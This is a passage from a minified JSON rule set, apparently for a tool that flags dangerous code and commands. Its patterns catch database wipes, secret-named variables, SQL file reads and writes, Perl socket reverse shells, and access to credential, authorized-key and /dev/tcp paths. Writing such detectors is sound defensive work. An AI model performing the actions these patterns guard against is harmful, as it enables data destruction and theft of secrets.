-ush_?(?:all|db|database))(?:_?(?:async|sync))?$|^(?:refresh|drop|reset|clear|wipe|truncate|purge)_?(?:all|db|database|schema|tables?|collections?|storage)(?:_?(\
-?:async|sync))?$","i"],"own-addresses":["\\\\blocalhost\\\\b|\\\\b127\\\\.\\\\d|\\\\b0\\\\.0\\\\.0\\\\.0\\\\b|\\\\[?::1\\\\b|^(?:unix|file|sqlite):|^\\\\.{0,2}/"],"service-options":["api\
-_?key|token|secret|credential|password|authorization|access_?key|^(?:basic_?)?auth$|^endpoint$|^(?:base|prefix|org|server|api)_?ur[li]$|^(?:hosts?|servers?|brok\
-ers|bootstrap_?servers)$|(?:project|account|subscription|site|space|app|tenant)_?id$","i"],"service-variables":["TOKEN|KEY|SECRET|PASS|PAT$|AUTH|CRED|ACCOUNT|EN\
-DPOINT|DSN|(?:UR[LI]|HOST|_ID|SID|DOMAIN|SERVER)$"],"service-addresses":["^(?:https?|wss?|grpcs?|nats|amqps?|ldaps?)://[^/]|^(?:[\\\\w-]+\\\\.)+(?:com|net|org|io|de\
-v|local|internal|cloud|corp)(?::\\\\d+)?$|^\\\\d+\\\\.\\\\d+\\\\.\\\\d+\\\\.\\\\d+(?::\\\\d+)?$"],"own-data-modules":["^(?:\\\\.{1,2}|@|~)/(?:[\\\\w./-]*[/.-])?(?:db|database|data-?s\
-ource|orm|prisma|knex|sequelize|mongoose|models?)(?:[/.-]|$)","i"],"client-makers":["^[A-Z]|^(?:create|connect|init|make|open|new|from|extend|with|get_?client)|\
-(?:client|driver|session|pool|engine|connection|sdk|api)$","i"],"negative-tests":["\\\\bnot\\\\b|!=|!~|!\\\\s*\\\\(?[\\\\w.]+|\\\\bunless\\\\b|\\\\breject\\\\b"],"skips":["\\\\b(?:\
-continue|next|return)\\\\b"],"stdin-names":["^(?:0|-|/dev/(?:stdin|fd/0)|/proc/self/fd/0|php://stdin)$"],"mock-options":["^(?:spec|spec_set|autospec|create|name|u\
-nsafe|new_callable|target|attribute|new)$"],"writing-flags":["^File\\\\.(?:Constants\\\\.)?(?:WRONLY|RDWR|CREAT|TRUNC|APPEND)$|^(?:os|fs\\\\.constants|constants)?\\\\.?\
-O_(?:WRONLY|RDWR|CREAT|TRUNC|APPEND)$"],"sending-methods":["gist|upload|put_?object|comment|send|post","i"],"deleting-requests":["^DELETE(?: /|$)|\\\\bmutation\\\\b\
-[\\\\s\\\\S]*(?:\\\\bdelete|Delete)\\\\w*\\\\s*\\\\("],"place-options":["ur[li]|host|server|endpoint|address|database|^db|file|storage|^path$|dsn","i"],"passing-data":["^me\
-mory://|:memory:|^(?:sqlite\\\\w*(?:\\\\+\\\\w+)?:/{2,3})?/tmp/|^sqlite://$|^mock$"],"passing-databases":["^(?::memory:$|/(?:tmp|var/tmp|dev/shm)/(?!.*\\\\.\\\\.))|^(?:[\\\
-\\w.-]+/)*(?:test|tests|tmp|scratch)(?:[_-][\\\\w-]*)?\\\\.(?:db|sqlite3?)$"],"harmless-names":["^(?:None|null|undefined|true|false|True|False|(?:\\\\w+\\\\.)*\\\\w*(?:Err\
-or|Exception|DEFAULT|Exit|Interrupt))$"],"file-calls":["^(?:os\\\\.(?:remove|unlink|rmdir|removedirs|rename|replace|truncate)|shutil\\\\.\\\\w+|pathlib\\\\.\\\\w+)$"],"im\
-itation":["^[^#\\\\n]*(?:\\\\b(?:import|from)\\\\s+|require\\\\(\\\\s*)['\\"]?(?:fakeredis|mongomock|pymongo_inmemory|ioredis-mock|redis-mock)\\\\b|^[^#\\\\n]*(?:\\\\b(?:import|\
-from)\\\\s+|require\\\\(\\\\s*)['\\"]?(?:mongodb-memory-server|pg-mem|testcontainers)\\\\b|^from sqlalchemy import .*\\\\bcreate_mock_engine\\\\b|^(?![\\\\s\\\\S]*\\\\b(?:DBI|dbi)\
-:(?!Mock\\\\b))[\\\\s\\\\S]*\\\\b(?:DBI|dbi):Mock:","m"],"links-repositories":["worktree|symlink|gitdir|git-dir|\\\\.git['\\"]"],"own-folder":["getcwd|\\\\bcwd\\\\(|__dirname|\
-__file__|abspath|resolve|pwd"],"in-memory":["['\\"](?:sqlite3?:(?:\\\\/\\\\/)?|(?:dbi|DBI):SQLite:(?:dbname=)?)\\\\/(?:tmp|var\\\\/tmp|dev\\\\/shm)\\\\/(?![^'\\"]*\\\\.\\\\.)|['\\\
-"][\\\\w:=/+]*:memory:['\\"]|['\\"]jdbc:(?:h2|hsqldb|derby|sqlite)::?mem|\\\\bSQLite\\\\.DB\\\\(\\\\s*\\\\)|\\\\bSequel\\\\.sqlite\\\\b(?!\\\\s*\\\\(?\\\\s*['\\"])|['\\"]sqlite:\\\\/\\\\/['\\"]\
-"],"database":["\\\\b(?:mongodb|postgres|mysql|mariadb|redis|rediss|mssql|oracle)\\\\w*(?:\\\\+\\\\w+)?:\\\\/\\\\/|['\\"](?!django)[\\\\w./-]+\\\\.(?:db|sqlite3?)['\\"]","i"],"dr\
-iver":["\\\\b(?:psycopg\\\\d?|asyncpg|aiopg|pymysql|MySQLdb|mysql2?|mariadb|cx_Oracle|oracledb|pyodbc|pymssql|pymongo|motor)\\\\b|\\\\b(?:mongoose|mongodb|ioredis|snowf\
-lake|clickhouse\\\\w*|DATABASE_URL|DB_URL)\\\\b|['\\"]pg['\\"]"],"own-connection":["(?:^|[\\\\n;])\\\\s*(?:from|import)\\\\s+(?!(?:sqlalchemy|sqlmodel|sqlite3|aiosqlite|tem\
-pfile|os|sys|pathlib|shutil|json|re|time|datetime|contextlib|asyncio|typing|uuid|random|pytest|unittest|pandas|dataclasses|textwrap|subprocess|logging|decimal|e\
-num|collections|itertools|functools|alembic)\\\\b)\\\\w|['\\"](?:\\\\.{1,2}|@|~)\\\\/|\\\\bargv\\\\b|\\\\bsymlink|\\\\(\\\\s*['\\"][\\\\w./-]+\\\\.(?:db|sqlite3?)['\\"]|(?:sqlite3|apsw)\
-\\\\.Connection|SqliteDatabase"],"emulated":["^(?![\\\\s\\\\S]*https?:\\\\/\\\\/(?!localhost|127\\\\.))[\\\\s\\\\S]*(?:UseDevelopmentStorage=true|\\\\bapi_base\\\\b[^\\\\n]*['\\"]http\
-:\\\\/\\\\/(?:localhost|127\\\\.))"],"data-library":["(?:import|from|require\\\\(?|use)\\\\b[^\\\\n]{0,60}\\\\b(?:mikro-orm|typeorm|prisma|sequelize|drizzle|kysely|objection|\
-bookshelf|peewee)|(?:import|from|require\\\\(?|use)\\\\b[^\\\\n]{0,60}\\\\b(?:tortoise|pony|sqlalchemy|sqlmodel|databases|neo4j|cassandra)|(?:import|from|require\\\\(?|us\
-e)\\\\b[^\\\\n]{0,60}\\\\b(?:rethinkdb|surrealdb|influx|libsql|neon|planetscale|duckdb|rq|bull)|\\\\b\\\\w*(?:DATABASE|DB|MONGO|REDIS|POSTGRES|PG|MYSQL)_?(?:URL|URI|DSN)\\\
-\\b","i"],"database-address":["^(?![\\\\s\\\\S]*['\\"]sqlite:)[\\\\s\\\\S]*(?:\\\\w:\\\\/\\\\/|D(?:ATA)?B(?:ASE)?_UR[IL]\\\\b)"],"attaches":["\\\\bATTACH\\\\b","i"],"key-store":["red\
-is|valkey|keydb|memcache","i"],"unconditional":["^(?![\\\\s\\\\S]*(?:\\\\b(?:if|unless|next|select|reject|filter|break|limit|take|first|case)\\\\b|\\\\?))[\\\\s\\\\S]*\\\\w"],"\
-http-client":["^(?!(?:(?![\\\\s\\\\S]*(?:new [\\\\w\\\\\\\\]*Client\\\\b[\\\\s\\\\S]*){2})[\\\\s\\\\S]*\\\\bMock(?:Handler|HttpClient|Response)\\\\b)|[\\\\s\\\\S]*\\\\bHttp::fake\\\\b)[\\\\s\\\\S]\
-*\\\\b(?:GuzzleHttp|HttpClient)\\\\b"],"stubbed-services":["^(?![\\\\s\\\\S]*(?:Client|Resource)\\\\.new\\\\b(?!\\\\([^)]*\\\\bstub_responses: true\\\\b))[\\\\s\\\\S]*\\\\bstub_respons\
-es: true\\\\b"],"stubbed-requests":["^(?![\\\\s\\\\S]*(?:axios|(?:node|cross)-fetch|superagent|needle|\\\\bky\\\\b|request['\\"]|phin|bent|wretch|['\\"](?:got|https?|http2|\
-net|node:\\\\w+|child_process)['\\"]|enableNetConnect|\\\\bif\\\\b))[\\\\s\\\\S]*\\\\bnew MockAgent\\\\(\\\\)[\\\\s\\\\S]*\\\\bdisableNetConnect\\\\(\\\\)[\\\\s\\\\S]*\\\\bsetGlobalDispatcher\\\\\
-(|^(?![\\\\s\\\\S]*(?:allow_net_connect|disable!|\\\\bif\\\\b|\\\\bunless\\\\b))[\\\\s\\\\S]*\\\\brequire [\\"']webmock(?:/(?:rspec|minitest)[\\"']|[\\"'][\\\\s\\\\S]*WebMock\\\\.enable!)\
-[\\\\s\\\\S]*\\\\bstub_request\\\\b"],"dry-files":["^(?![\\\\s\\\\S]*\\\\b(?:FileUtils(?:\\\\.|::(?![DN])\\\\w)|include FileUtils(?!::)|(?:class|module)\\\\s|(?:File(?!\\\\.join)|Dir\
-|Pathname)\\\\b))[\\\\s\\\\S]*\\\\binclude FileUtils::(?:DryRun|NoWrite)\\\\b"],"lists-processes":["^(?![\\\\s\\\\S]*\\\\b(?:if|select|grep|when|unless|filter)\\\\b[^\\\\n]*\\\\b(?:c\
-omm|cmdline|exe|status|environ|cwd)\\\\b)[\\\\s\\\\S]*[\\"']/proc(?:[\\"']|/(?:\\\\*|\\\\[|\\\\\\\\d))"],"sets-names":["\\\\b(?:globals|vars|locals|setattr|exec|eval|extract|relo\
-ad)\\\\s*\\\\(|\\\\bimport\\\\s+\\\\*"],"plain-switches":["^(?![\\\\s\\\\S]*(?:set_defaults|\\\\bdest\\\\s*=|\\\\bargv\\\\b|parse_(?:known_)?args\\\\([^)]|setattr|vars\\\\(|fromfile))[\\\\\
-s\\\\S]*\\\\bargparse\\\\b"],"reads-environment":["\\\\bprocess\\\\.env\\\\b|\\\\bos\\\\.environ|\\\\bgetenv\\\\b"],"reaches-around":["\\\\b(?:patch(?:\\\\.\\\\w+)?|setattr)\\\\([^\\\\n]*\\\\)\
-\\\\s+if\\\\b|\\\\bnullcontext\\\\b|__wrapped__|\\\\[['\\"]\\\\w+['\\"]\\\\]\\\\(|mockImplementation\\\\(\\\\s*\\\\)|\\\\bPause\\\\b|\\\\b(?:globals|vars|locals|exec|eval|reload|__dict__|__b\
-uiltins__|sys\\\\.modules|import_module|__import__|_getframe|f_globals|gc\\\\.\\\\w+)\\\\b|\\\\b(?:temp_original|get_original|getOriginal|wrappedMethod|(?:require|import)\
-Actual|importOriginal|require\\\\.cache|createRequire|getBuiltinModule|binding)\\\\b|\\\\bimport\\\\s*\\\\*|\\\\bimport\\\\(\\\\s*(?!['\\"\`][/.])|\\\\bReflect\\\\.|\\\\bObject\\\\.(?:as\
-sign|definePropert\\\\w+|setPrototypeOf)\\\\(\\\\s*[\\\\w.]+\\\\s*,|\\\\bsyncBuiltin\\\\w+|\\\\bWorker\\\\b|\\\\b(?:def|class|function)\\\\s+(?:patch|mock\\\\w*|\\\\w*Mock|Patcher|Stubbe\
-r|responses|respx|sinon|jest|vi|nock|setupServer)\\\\b|\\\\.(?:patch|object|\\\\w*Mock|spyOn|stub|method|mock_aws|activate|listen|disableNetConnect)\\\\s*=[^=]|\\\\bpatch\
-\\\\s*="],"process-tests":["\\\\b(?:name|cmdline|comm|exe)\\\\b"],"names-processes":["\\\\bif\\\\b[^\\\\n]*\\\\b(?:name|cmdline|cmd|exe|comm)\\\\b"],"several-connections":["(?:\
-(?:create_engine|newInstance|getConnection|createConnection|new PDO|new DataSource)\\\\s*\\\\([\\\\s\\\\S]*){2}"],"memory-broker":["^(?![\\\\s\\\\S]*(?:conf\\\\b|config|#|\\\\b\
-from\\\\s+(?!celery\\\\b)|\\\\bimport\\\\s+(?!Celery\\\\b)))[\\\\s\\\\S]*\\\\bCelery\\\\([^)\\\\n]*\\\\bbroker=['\\"]memory://['\\"]"],"connects":["connection|\\\\.{3}|Object\\\\.assign"],\
-"installs-cron":["write_to_user|user\\\\s*="],"by-user":["\\\\busername\\\\b|\\\\buids?\\\\b|[\\"']\\\\w{0,2}[\\"']\\\\s+(?:not\\\\s+)?in\\\\b|\\\\b(?:includes|[sS]tarts_?[wW]ith|end\
-s_?[wW]ith|find|search|match)\\\\(\\\\s*[\\"'/]\\\\w{0,2}[\\"'/]"],"own-settings":["^(?![\\\\s\\\\S]*(?:HOST|database=|using=))[\\\\s\\\\S]*\\\\bsettings\\\\.configure\\\\("],"produc\
-tion":["\\\\bPROD(?:UCTION)?_\\\\w*(?:UR[LI]|DSN|DB)\\\\b|://[^'\\"\\\\s]*\\\\bprod(?:uction)?[.-]"],"socket-shell":["^(?=[\\\\s\\\\S]*(?:IO::Socket|\\\\bsocket\\\\s*\\\\())[\\\\s\\\\S]\
-*\\\\bopen\\\\s*\\\\(?\\\\s*STDIN\\\\s*,\\\\s*[\\"']?[<>+]{0,2}&"],"repeats":["\\\\b(?:while|for|foreach|until|loop|redo|goto|times|each\\\\w*|upto|downto|step|cycle|map|select|\
-reduce|def|sub|func\\\\w*|fn|eval|exec\\\\w*|lambda|class|trap|require|include|load|__FILE__|argv|ARGV)\\\\b|->\\\\s*\\\\{|=>\\\\s*\\\\{|\\\\*\\\\s*\\\\d|\\\\bx\\\\s*\\\\d|\\\\bfork\\\\b(?:[\
-\\\\s\\\\S]*?\\\\bfork\\\\b){3}"],"limits":["\\\\bwhere\\\\s*\\\\("],"writes":["\\\\.write|dump|print\\\\s*[{$]|print\\\\([^)\\\\n]*\\\\bfile\\\\s*=|[\\\\w)]\\\\.(?:print|puts)\\\\b|fputs|fpri\
-ntf|save|copy|pipe|send|<<|to_\\\\w+\\\\(|fwrite|Writer"],"secret-names":["['\\"](?:\\\\w*_)?(?:TOKEN|KEY|SECRET|PASSW\\\\w*|PASS)(?:_\\\\w*)?['\\"]|\\\\b(?:TOKEN|SECRET|PASS\
-WORD)\\\\|"],"encrypts":["\\\\.encrypt\\\\(|createCipher|\\\\bcrypt\\\\.|open\\\\((\\\\w+), *[\\"']w[\\"']\\\\)\\\\.write\\\\( *open\\\\(\\\\1\\\\)"],"rolled-back":["^\\\\s*(?:BEGIN(?: TRANS\
-ACTION| WORK)?|START TRANSACTION);(?:\\\\s*(?:SELECT|INSERT|UPDATE|DELETE|SAVEPOINT|EXPLAIN|WITH)\\\\s[^;\\\\\\\\]*;)*\\\\s*ROLLBACK;?\\\\s*$","i"],"keeps-real":["pause|pas\
-s_?thr|add_real|real_http|resume|session\\\\s*=|skip_names|modules_to_|use_known|use_cache|deactivate"],"other-imports":["^\\\\s*(?:from|import) (?!boto|moto|(?:os|\
-sys|json|re|pytest|datetime)\\\\b)|^\\\\s*import [^\\\\n]*,\\\\s*(?!boto|moto|(?:os|sys|json|re)\\\\b)","m"],"several-clients":["(?:boto3\\\\.(?:client|resource)\\\\([\\\\s\\\\S]\
-*){2}"],"other-requests":["\\\\b(?:httpx|aiohttp|urllib\\\\d?|http\\\\.client|pycurl|socket)\\\\b"],"other-files":["^(?:import|from) (?:posix|nt|ctypes|_)","m"],"beside\
-s-httpx":["\\\\b(?:requests|aiohttp|urllib\\\\d?|http\\\\.client|pycurl|socket)\\\\b|assert_all_mocked|\\\\busing\\\\b|rollback"],"besides-fetch":["passthrough|bypass|['\\"]\
-(?:node:)?(?:net|tls|dgram|http2)['\\"]|socket"],"besides-http":["enableNetConnect|restore|allowUnmocked|passthrough|\\\\bback\\\\b|recorder|NOCK_OFF|adapter|undici|\
-superagent|http2|['\\"](?:node:)?net['\\"]|globalThis|socket|\\\\bky\\\\b|^(?![\\\\s\\\\S]*\\\\bfetch\\\\b[^\\\\n;]{0,20}['\\"]node-fetch['\\"])[\\\\s\\\\S]*\\\\bfetch\\\\s*\\\\("]},"share\
-d":{"functions":{"chr":"characters $all","fromCharCode":"characters $all","fromCodePoint":"characters $all","bytes":"characters $0","bytearray":"characters $0",\
-"ord":"code-point $0","int":"integer $0 $1","str":"value $0","String":"value $0","strval":"value $0","iter":"value $0","scalar":"value $0","expanduser":"value $\
-0","abspath":"value $0","realpath":"value $0","normpath":"value $0","fspath":"value $0","compile":"value $0","enter_context":"value $0","closing":"value $0","li\
-st":"listed $0","sorted":"listed $0","tuple":"listed $0","set":"listed $0","frozenset":"listed $0","Set":"listed $0","Array.from":"listed $0","from":"listed $0"\
-,"b64decode":"fold base64 $0","urlsafe_b64decode":"fold base64 $0","decodebytes":"fold base64 $0","a2b_base64":"fold base64 $0","base64_decode":"fold base64 $0"\
-,"decode_base64":"fold base64 $0","decode64":"fold base64 $0","strict_decode64":"fold base64 $0","urlsafe_decode64":"fold base64 $0","atob":"fold base64 $0","b3\
-2decode":"fold base32 $0","b85decode":"fold unread $0","a85decode":"fold unread $0","str_rot13":"fold unread $0","decompress":"fold unread $0","gzinflate":"fold\
- unread $0","gzuncompress":"fold unread $0","gzdecode":"fold unread $0","inflateSync":"fold unread $0","inflateRawSync":"fold unread $0","gunzipSync":"fold unre\
-ad $0","b16decode":"fold hex $0","unhexlify":"fold hex $0","a2b_hex":"fold hex $0","fromhex":"fold hex $0","hex2bin":"fold hex $0","strrev":"fold reverse $0","r\
-eversed":"reverse $0","reverse":"reverse $0","strtolower":"fold lower $0","lc":"fold lower $0","strtoupper":"fold upper $0","uc":"fold upper $0","trim":"fold tr\
-im $0","unescape":"fold url $0","unquote":"fold url $0","urldecode":"fold url $0","rawurldecode":"fold url $0","decodeURIComponent":"fold url $0","decodeURI":"f\
-old url $0","expandvars":"fold home $0","join":"join-texts $0 $1..","implode":"join-texts $0 $1..","sprintf":"format $0 $1..","map":"map $0 $1","array_map":"map\
- $0 $1"},"methods":{"join":"join-texts $self $0","split":"if-text split $self $0","replace":"if-text if-args:2 replace $self $0 $1","replaceAll":"if-text replac\
-e $self $0 $1","gsub":"if-text replace $self $0 $1","lower":"if-text fold lower $self","downcase":"if-text fold lower $self","toLowerCase":"if-text fold lower $\
-self","upper":"if-text fold upper $self","upcase":"if-text fold upper $self","toUpperCase":"if-text fold upper $self","strip":"if-text fold trim $self","chomp":\
-"if-text fold trim $self","trim":"if-text fold trim $self","rstrip":"if-text fold trim-end $self","lstrip":"if-text fold trim-start $self","reverse":"reverse $s\
-elf","decode":"decode $self $0","encode":"value $self","to_s":"value $self","to_str":"value $self","to_sym":"value $self","bytes":"value $self","bind":"value $s\
-elf","chars":"if-text elements $self","concat":"concatenate $self $all","format":"if-text format $self $0..","clear":"if-lasting run sql delete-all rows","clear\
-Async":"if-lasting run sql delete-all rows","drop":"if-lasting run sql delete-all rows","dropAsync":"if-lasting run sql delete-all rows","erase":"if-lasting run\
- sql delete-all rows","remove":"if-empty if-lasting run sql delete-all rows","removeAsync":"if-empty if-lasting run sql delete-all rows","openDB":"if-made:store\
- value $self","open_db":"if-made:store value $self","sublevel":"if-made:store value $self","begin":"if-made:store value $self","pack":"pack $0 $self","unpack1":\
-"if-text fold base64 $self","charCodeAt":"code-point $self $0","slice":"slice $self $0 $1","joinpath":"join $self $0..","hexdigest":"value","call":"invoke $self\
- $0..","apply":"invoke $self $1","send":"message $self $0 $1..","public_send":"message $self $0 $1..","__send__":"message $self $0 $1.."},"deeds":{"drop_databas\
-e":"if-kept run sql drop-database $owner","dropdatabase":"if-kept run sql drop-database $owner","push":"if-git run git push $all","checkout":"if-git run git che\
-ckout $all","update_ref":"if-git run git update-ref $all","filter_branch":"if-git run git filter-branch $all","branch":"if-git run git branch $all","stash":"if-\
-git run git stash $all","raw":"if-git program git $all","reset":"if-says:^- run git reset $all","clean":"if-says:^- run git clean $all","drop_all":"if-kept run \
-sql drop-schema $owner","drop_table":"if-kept run sql drop-table $0","droptable":"if-kept run sql drop-table $0","drop_index":"value","drop_indexes":"value","dr\
-opindex":"value","dropindexes":"value","flushall":"if-stored run sql flush FLUSHALL","flush_all":"if-stored run sql flush FLUSHALL | if-name:broker run sql flus\
-h FLUSHALL","flushdb":"if-stored run sql flush FLUSHDB","delete_all":"if-name if-kept run sql delete-all $owner","destroy_all":"if-name if-kept run sql delete-a\
-ll $owner","deleteall":"if-name if-kept run sql delete-all $owner","deletemany":"if-kept if-empty run sql delete-all $owner","delete_many":"if-kept if-empty run\
- sql delete-all $owner","_raw_delete":"if-kept run sql delete-all $owner","drop_collection":"if-kept if-none run sql drop-collection $owner | if-kept run sql dr\
-op-collection $0","dropcollection":"if-kept if-none run sql drop-collection $owner | if-kept run sql drop-collection $0","query":"made rows","collection":"made \
-rows","all":"if-none made rows","filter":"if-none made rows","exclude":"if-none made rows","begin_delete":"if-kept run cloud-sdk delete","begindelete":"if-kept \
-run cloud-sdk delete","recursivedelete":"if-kept run cloud-sdk delete","obliterate":"if-kept run cloud-sdk delete","expunge":"if-none if-kept run cloud-sdk dele\
-te","purge":"if-name:control if-no-sign:memory-broker run celery purge","discard_all":"if-name:control if-no-sign:memory-broker run celery purge","drop":"if-mad\
-e:rows if-none run sql drop-collection rows","delete":"if-made:rows if-none run sql delete-all rows | if-none made pending-delete","forcedelete":"if-made:rows i\
-f-none run sql delete-all rows"}},"words":{"skipped":["if","elif","else","elsif","unless","while","until","do","try","except","catch","finally","begin","rescue"\
-,"ensure","then","end","and","or","in","case","when","switch","default","break","continue","pass","next","last","redo","raise","throw","export","public","privat\
-e","protected","static","final","abstract","async","use","using","package"],"ending_signs":[";","{","}",")","]",",",":","=>"],"assigning":["=",":=","+=",".=","|\
-|=","??=","&&="],"constructors":["__init__","constructor","initialize","__construct"],"declaring":["const","let","var","my","our","local","await","static","asyn\
-c"],"standard":["assert","async_hooks","buffer","child_process","cluster","console","crypto","dgram","dns","events","fs","http","http2","https","module","net","\
-os","path","perf_hooks","process","punycode","querystring","readline","stream","string_decoder","timers","tls","tty","url","util","v8","vm","worker_threads","zl\
-ib","bun","zx","abc","argparse","array","ast","asyncio","base64","binascii","bz2","calendar","cgi","cmath","codecs","collections","concurrent","configparser","c\
-ontextlib","copy","csv","ctypes","dataclasses","datetime","decimal","difflib","email","enum","errno","fileinput","fnmatch","fractions","functools","gc","getpass\
-","glob","gzip","hashlib","heapq","hmac","html","importlib","inspect","io","ipaddress","itertools","json","keyword","locale","logging","lzma","math","mimetypes"\
-,"multiprocessing","operator","pathlib","pickle","pkgutil","platform","plistlib","pprint","queue","random","re","sched","secrets","select","shelve","shlex","shu\
-til","signal","smtplib","socket","socketserver","sqlite3","ssl","stat","statistics","string","struct","subprocess","sys","sysconfig","tarfile","tempfile","textw\
-rap","threading","time","timeit","traceback","types","typing","unittest","urllib","uuid","venv","warnings","weakref","webbrowser","xml","xmlrpc","zipfile","zone\
-info","dotenv","jsonwebtoken","jose","jwt","bcrypt","bcryptjs","passlib","cryptography","pydantic","zod","yaml","lodash","pandas","numpy","express","fastapi","f\
-lask","starlette","winston","pino","loguru","structlog","click","typer","jsdom","happy-dom","linkedom","cheerio","nock","msw","supertest","sinon","jest","vitest\
-","pytest","responses","requests_mock","respx","pytest_httpx","vcr","betamax","moto"],"prefixing":["new","await","not","typeof","void","defined","yield","async"\
-,"return","throw","clone"],"following":["if","unless","while","until","do","and","or","end","then","rescue","ensure","in","else","elsif","for","foreach","x","eq\
-","ne","cmp","lt","gt","le","ge"],"opening":["do","def","class","module","begin","case"],"leading_opening":["if","unless","while","until","for"],"spawning":["sp\
-awn","fork","vfork","Popen","posix_spawn","pcntl_fork","proc_open","popen","execFile","Worker","Process","create_subprocess_exec","create_subprocess_shell"],"sh\
-ells":["system","exec","shell_exec","popen","execSync","os"],"waiting":["break","return","exit","wait","wait2","waitpid","waitpid2","wait4","join","communicate"\
-,"sleep","usleep","await","throw","raise","die","last","readline","input","gets","recv","accept","get","poll","Queue"],"sql_kinds":["DATABASE","SCHEMA","TABLE",\
-"VIEW","INDEX","USER","ROLE","FUNCTION","PROCEDURE","TRIGGER","SEQUENCE","TYPE","EXTENSION","KEYSPACE","TABLESPACE","COLUMN","CONSTRAINT","POLICY","OWNED","COLL\
-ECTION","STREAM","BUCKET","MEASUREMENT","SERIES","PARTITION"],"sql_fillers":["IF","EXISTS","NOT","ONLY","CONCURRENTLY","CASCADE","LOW_PRIORITY","QUICK","IGNORE"\
-],"sql_leads":["AS","BEGIN","THEN","ANALYZE","ANALYSE","EXPLAIN","DO","DETACH","LOOP","ELSE"],"sql_reads":["LOAD_FILE","PG_READ_FILE","PG_READ_BINARY_FILE","LO_\
-IMPORT","READFILE","READ_TEXT","INFILE"],"sql_writes":["OUTFILE","DUMPFILE","WRITEFILE","LO_EXPORT"],"sql_code":["EXECUTE","EXEC","PREPARE","DO"],"before_value"\
-:["return","typeof","case","in","of","and","or","not","if","unless","split","grep","when"],"behind_calls":["while","until","if","unless","or","and","for","forea\
-ch"],"data_signs":["driver","database","key-store","in-memory","imitation","data-library"],"endpoints":["endpoint_url","endpoint","base_url","baseURL"],"sending\
-_verbs":["POST","PUT","PATCH","DELETE"],"element_methods":["map","forEach","flatMap","filter","each","each_with_index","collect","select","find","to_h","filter_\
-map","reverse_each"],"folding_methods":["reduce","inject","each_with_object"],"selecting_methods":["filter","select","reject","sort","toSorted","find_all","grep\
-"],"selecting_functions":["filter","takewhile","dropwhile","tqdm"],"remote":["indices","indexes","tables","databases","collections","schemas","keyspaces","queue\
-s","topics","streams","buckets","exchanges","repos","repositories","projects","resourcegroups","volumes","instances","virtualmachines","droplets","servers","clu\
-sters","namespaces","organizations","customers","subscriptions","deployments","dnszones","zones","tenants","vaults","storageaccounts","webapps","datasets","load\
-balancers","backups","hostedzones","shards","replicas","partitions"],"remote_members":["indices","repos","repositories","buckets","resourcegroups","virtualmachi\
-nes","droplets","keyspaces","customers","dnszones","storageaccounts","webapps","loadbalancers","hostedzones","deployments","namespaces","databases","volumes"],"\
-deleting":["delete","rdelete","del","drop","destroy","purge","truncate","wipe","terminate","erase","nuke","obliterate","expunge","deregister","deletion"],"loose\
-ly_deleting":["remove","clear","empty","rmtree","removetree","rmdir","unlink","rm"],"passing":["label","labels","tag","tags","reaction","reactions","assignee","\
-assignees","reviewer","reviewers","listener","listeners","handler","handlers","header","headers","interceptor","interceptors","cookie","cookies","cache","caches\
-","timeout","interval","filter","filters","default","defaults","mock","mocks","queue_handler"],"deletion_fillers":["admin","schedule","key","all","if","exist","\
-exists","async","sync","force","cascade","begin","batch","bulk","recursive","and","wait","now","by","id","command"],"imitating":["moto.mock_aws","responses.acti\
-vate","respx.mock"],"mock_setters":["configure_mock","attach_mock","callsFake","returns","resolves","rejects","mockImplementation","mockReturnValue","mockResolv\
-edValue","mockRejectedValue"],"mock_ends":["restore","restoreAll","restoreAllMocks","mockRestore","reset","resetAll","resetAllMocks","mockReset","stop","stopall\
-","undo","callThrough","callThroughWithNew","callsArg","mockImplementationOnce","__exit__","unmock","doUnmock","enableNetConnect","isolateModules","resetModules\
-","resetHandlers","deactivate"],"conditional":["if","elif","else","unless","for","while","try","except","case","and","or","assert","&&","||","??","?","?.","||="\
-,"??=","&&="],"exiting":["return","throw","raise","await"],"suspending":["await","yield"],"continuing":["else","catch","finally","while","instanceof","in","of",\
-"as","from","do"],"changing":["global","nonlocal","for","as","case","del"],"setting":["=",":=","+=","??=","||="],"later":["lambda","def","function","atexit","Ti\
-mer","Thread","submit"],"ending":["endswith","endsWith"],"alternating":["||","!","?","??","^",":="],"prefix_signs":["+","-","!","~","*","**","...","&","\\\\","++"\
-,"--","@","$"],"block_lists":["map","grep","sort","first","any","all"],"perl_declaring":["my","our","local"],"file_programs":["rm","rmdir","mv","cp","ln","chmod\
-","chown","touch","mkdir"],"deleting_programs":["rm","truncate","shred"],"destructive_programs":["rm","rmdir","eval","truncate","mv","chmod","chown"]}},"paths":\
-{"classes":{"root":"\`/\` itself, or everything in it.","system":"Folders of the operating system and their contents.","system-tree":"Such a folder itself, or one\
- of its main parts: /etc/ssl, /usr/lib, /var/lib.","local-system":"Parts of the system for local additions: /usr/local, /opt, package sources.","home":"A home f\
-older itself, or all of several.","personal":"Direct child of a home, or of a folder of personal files.","outside":"Deeper in a home, or anywhere else outside t\
-he workspace.","workspace":"The workspace itself, everything in it, or a folder above it.","source":"Near the top of the workspace, and not produced by a build.\
-","source-folder":"Of these, a folder by whose name projects keep what people wrote; others may be what the agent made itself.","inner":"Deeper in the workspace\
-, and not produced by a build.","disposable":"Produced anew by a build, test or package manager.","temp":"Inside a folder for temporary files.","temp-root":"Suc\
-h a folder itself, or everything in it.","vcs":"Store of a version control system: \`.git\`.","vcs-config":"Hooks and configuration of version control.","credenti\
-als":"Secrets: keys, tokens, passwords.","credentials-by-name":"\\"credentials\\" in the name of source code or a text: protected from edit tools alone.","handed-\
-over":"Secrets in \`.env\` that the shell hands to programs: \`source .env\`.","from-template":"The same, as a copy of the template beside it.","accounts":"Users an\
-d permissions: passwd, sudoers, PAM.","account-secrets":"Of these, all but the list of names that every program reads: /etc/passwd.","authorized-keys":"Keys tha\
-t may log in.","startup":"Read by shells, desktops and interpreters at start-up.","schedule":"Cron, timers, services.","device":"Disks.","kernel":"Switches and \
-memory of the kernel.","socket":"Sockets that control a machine.","connection":"\`/dev/tcp/\\u2026\`: a connection to another machine.","local-connection":"The sam\
-e to this machine, or to a container beside it.","nowhere":"\`/dev/null\`.","endless":"Devices without an end: \`/dev/zero\`.","data":"Dumps, backups, databases, li\
-sts of people.","logs":"Evidence kept by the system: logs, histories.","unknown":"Unknown before the command runs.","unknown-folder":"Everything in a folder who\
-se name is unknown, and may be empty: all of the machine then."},"purposes":{"startup":{"form":"^(~/)?\\\\.(bashrc|bash_profile|bash_login|bash_logout|bash_aliase\
